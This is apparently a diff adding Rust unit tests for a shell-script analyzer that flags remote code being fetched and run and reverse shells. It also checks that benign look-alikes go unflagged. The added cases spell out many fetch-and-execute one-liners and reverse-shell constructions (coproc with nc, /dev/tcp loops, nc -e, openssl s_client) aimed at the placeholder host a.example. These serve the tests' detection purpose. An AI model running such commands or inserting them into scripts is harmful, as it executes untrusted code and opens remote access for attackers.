@@ -37,8 +37,58 @@ fn what_is_fetched_and_run_is_known_in_each_form() {
 }
 
 #[test]
+fn what_a_file_of_addresses_or_options_names_or_another_protocol_brings_is_known_until_it_runs() {
+    let cases: [(&str, &str); 20] = [
+        ("echo http://a.example/x > /tmp/l; wget -qi /tmp/l -O /tmp/y; sh /tmp/y", "http://a.example/x"),
+        ("echo http://a.example/x | wget -q -i -; sh x", "http://a.example/x"),
+        ("echo http://a.example/x > l; aria2c -i l; sh x", "http://a.example/x"),
+        ("printf 'url = http://a.example/x\\noutput = y\\n' > c; curl -sK c; sh y", "http://a.example/x"),
+        ("echo 'url=\"http://a.example/x\"' | curl -sK - | sh", "http://a.example/x"),
+        ("curl --config <(echo '-o y'; echo '--url http://a.example/x') ; sh y", "http://a.example/x"),
+        ("sftp -q u@a.example:/d/x /tmp/y; sh /tmp/y", "ftp://a.example"),
+        ("sftp u@a.example:/d/x; sh x", "ftp://a.example"),
+        ("echo 'get d/x /tmp/y' | sftp -b - u@a.example; sh /tmp/y", "ftp://a.example"),
+        ("ftp -n a.example <<E\nuser a a\nget x\nE\nsh x", "ftp://a.example"),
+        ("lftp -c 'get http://a.example/x -o /tmp/y'; sh /tmp/y", "http://a.example/x"),
+        ("smbclient //a.example/s -c 'get x /tmp/y'; sh /tmp/y", "ftp://a.example"),
+        ("tftp a.example -c get x; sh x", "ftp://a.example"),
+        ("scp -P 2222 u@a.example:x . ; sh x", "scp://a.example"),
+        ("scp scp://u@a.example:22//x /tmp/x; sh /tmp/x", "scp://a.example"),
+        ("rsync -az -e 'ssh -p 22' u@a.example:d/ /opt/d/; /opt/d/x", "rsync://a.example"),
+        ("sshfs u@a.example:/d /mnt/d; sh /mnt/d/x", "sshfs://a.example"),
+        ("mount -t nfs a.example:/d /mnt/d && /mnt/d/x", "mount://a.example"),
+        ("w3m -dump_source http://a.example/x | sh", "http://a.example/x"),
+        ("while read -r l; do $l; done < <(curl -s http://a.example/x)", "http://a.example/x"),
+    ];
+    for (script, expected) in cases {
+        assert_eq!(read(script).run_sources, [expected], "{script}");
+    }
+}
+
+#[test]
+fn a_shell_at_a_connection_is_known_when_a_coprocess_or_a_loop_stands_between() {
+    for script in [
+        "coproc nc a.example 443; bash <&${COPROC[0]} >&${COPROC[1]}",
+        "coproc nc a.example 443\nbash <&\"${COPROC[0]}\" >&\"${COPROC[1]}\"",
+        "coproc C { nc a.example 443; }; sh <&${C[0]} >&${C[1]}",
+        "coproc C ( nc a.example 443 ); sh <&${C[0]} >&${C[1]}",
+        "coproc SH { bash -i; }; cat <&${SH[0]} > /dev/tcp/a.example/443 & cat /dev/tcp/a.example/443 >&${SH[1]}",
+        "exec 3<>/dev/tcp/a.example/443; coproc bash; cat <&3 >&${COPROC[1]} & cat <&${COPROC[0]} >&3",
+        "coproc bash -i >& /dev/tcp/a.example/443 0>&1",
+        "exec 3<>/dev/tcp/a.example/443\nwhile read -r l; do eval \"$l\"; done <&3 >&3",
+        "exec 3<>/dev/tcp/a.example/443; while read l; do $l; done <&3",
+        "busybox nc a.example 443 -e sh",
+        "sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect a.example:443 > /tmp/s",
+    ] {
+        assert_eq!(read(script).behaviors, ["remote_shell"], "{script}");
+    }
+}
+
+#[test]
 fn what_comes_from_a_bucket_by_a_pipe_is_run() {
     for script in [
+        "mount-s3 b /mnt/b; sh /mnt/b/x",
+        "s3fs b:/d /mnt/b -o iam_role=auto; . /mnt/b/x",
         "aws s3 cp s3://b/x - | bash",
         "s5cmd cp s3://b/x /tmp/x; sh /tmp/x",
         "aws s3 cp s3://b/x /tmp/x; . /tmp/x",
@@ -126,6 +176,13 @@ fn what_only_looks_alike_says_nothing() {
         "exec 3< /etc/hosts; read -u 3 line",
         "http https://a.example/health",
         "socat TCP-LISTEN:8080,fork TCP:localhost:80",
+        "coproc jupyter lab; read -r l <&${COPROC[0]}; echo $l",
+        "while read -r l; do $l; done < /etc/jobs",
+        "while read -r l; do echo $l; done < <(curl -s http://a.example/x)",
+        "echo http://a.example/x > l; wget -i l; sh y",
+        "sftp -b /tmp/commands u@a.example; sh /tmp/y",
+        "mount -t nfs4 fs-0a1b2c3d.efs.eu-west-1.amazonaws.com:/ /mnt/efs; sh /mnt/efs/x",
+        "curl -K /etc/curl.conf http://a.example/x -o y; sh z",
     ] {
         let found = read(script);
         let is_nothing = found.run_sources.is_empty()
